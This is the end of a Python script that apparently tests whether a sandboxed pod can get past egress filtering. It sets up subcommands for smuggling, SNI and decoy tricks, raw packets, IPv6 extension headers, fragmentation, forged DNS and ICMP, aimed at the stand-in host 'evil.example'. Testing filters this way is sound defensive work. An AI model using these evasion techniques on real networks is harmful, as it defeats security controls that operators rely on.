    ap.add_argument("--caps", required=True, help="capabilities the technique is given (none, net_raw, ...)")
    ap.add_argument("--bind-dev", help="SO_BINDTODEVICE for the TCP/UDP sockets of the technique (e.g. lo)")
    ap.add_argument("--marker", required=True)
    sub = ap.add_subparsers(dest="technique", required=True)

    def add(name, fn, *args):
        p = sub.add_parser(name, help=fn.__doc__)
        p.set_defaults(fn=fn)
        for x in args:
            p.add_argument(x, type=int) if x == "port" else p.add_argument(x)
        return p
    p = add("http", t_http, "dst", "host")
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--path", default="")
    for p in (p, add("tcp", t_tcp, "dst", "port"), add("udp", t_udp, "dst", "port")):
        p.add_argument("--mark", type=lambda x: int(x, 0))
        p.add_argument("--setuid", type=int)
    sub.choices["udp"].add_argument("--cmsg-mark", type=lambda x: int(x, 0))
    p = add("tls", t_tls, "dst", "sni")
    p.add_argument("--port", type=int, default=443)
    p.add_argument("--mark", type=lambda x: int(x, 0))
    p.add_argument("--two-ext", action="store_true", help="one server_name extension per name (else one list)")
    p.add_argument("--hello", default="python", help="python, or a captured ClientHello file")
    p = add("upgrade", t_upgrade, "dst", "host", "evil", "control")
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--lead", default="", help="bytes before the second request (escapes: \\r\\n)")
    p = add("oob", t_oob, "dst", "host", "evil", "control", "where")
    p.add_argument("--port", type=int, default=80)
    p = add("smuggle", t_smuggle, "dst", "host", "evil", "control", "variant")
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--second", action="store_true", help="after an allowed request on the same connection")
    p = add("zerocopy", t_zerocopy, "proto", "dst", "host", "evil", "control")
    p.add_argument("--port", type=int, default=443)
    p.add_argument("--pad", type=int, default=0, help="TLS: a padding extension of this many bytes")
    p.add_argument("--sendfile", action="store_true", help="send from a file with sendfile() instead")
    p = add("h2", t_h2, "dst", "host", "evil", "control", "variant")
    p.add_argument("--port", type=int, default=80)
    p = add("reuse", t_reuse, "dst", "sni", "evil", "control")
    p.add_argument("--port", type=int, default=443)
    p.add_argument("--hello", default="python")
    p = add("packet", t_packet, "iface", "dmac", "proto", "src", "dst")
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--bypass", action="store_true", help="PACKET_QDISC_BYPASS")
    p.add_argument("--sport", type=int, help="UDP source port (default: random)")
    p.add_argument("--evil", default="evil.example", help="Host of the HTTP request a TCP connection carries")
    p.add_argument("--path", default="", help="prefix of its path (the marker follows)")
    p = add("dnsforge", t_dnsforge, "src", "dst", "name", "to")
    p.add_argument("--port", type=int, default=33333, help="the pod's port the forged answers go to (also 53, 5353)")
    p = add("raw", t_raw, "proto", "src", "dst")
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--ext", help="IPv6 extension headers before TCP/UDP: hbh,dst,frag")
    p.add_argument("--frag", action="store_true", help="the first flight / datagram cut into two IP fragments")
    p.add_argument("--tls-decoy", metavar="SNI", help="TCP: first a ClientHello for SNI as old data (its sequence "
                   "ends where the stream starts: the server drops it), then one for MARKER.EVIL")
    p.add_argument("--http-decoy", metavar="HOST", help="TCP: the same with an HTTP request for HOST, then for EVIL")
    p.add_argument("--control", default="decoy", help="marker of the decoy")
    p.add_argument("--insertion", choices=["old", "paws", "badsum", "gap"], default="old",
                   help="how the server is made to drop the decoy: old sequence numbers, an old TCP timestamp, or "
                   "a wrong TCP checksum")
    p.add_argument("--lone", choices=["rst", "rst-ack", "fin", "ack", "syn"],
                   help="TCP: one segment with these flags and the payload, outside any connection")
    p.add_argument("--evil", default="evil.example", help="Host of the HTTP request a TCP connection carries")
    p.add_argument("--path", default="", help="prefix of its path (the marker follows)")
    p = add("icmp", t_icmp, "type", "dst")
    p.add_argument("--hlim", type=int, default=255)
    p.add_argument("--ping-socket", action="store_true", help="SOCK_DGRAM ping socket (no privilege)")
    p.add_argument("--ext", choices=["hbh", "dst"], help="ND only: the payload in this options header instead")
    p.add_argument("--src", default="2001:db8:1::1", help="source address with --ext")
    a = ap.parse_args()
    check_identity(a.caps)
    MARKER = a.marker
    BIND_DEV = a.bind_dev
    log("%s: marker %s" % (a.technique, MARKER))
    try:
        a.fn(a)
    except OSError as e:
        log("%s: %s" % (a.technique, e))


if __name__ == "__main__":
    main()
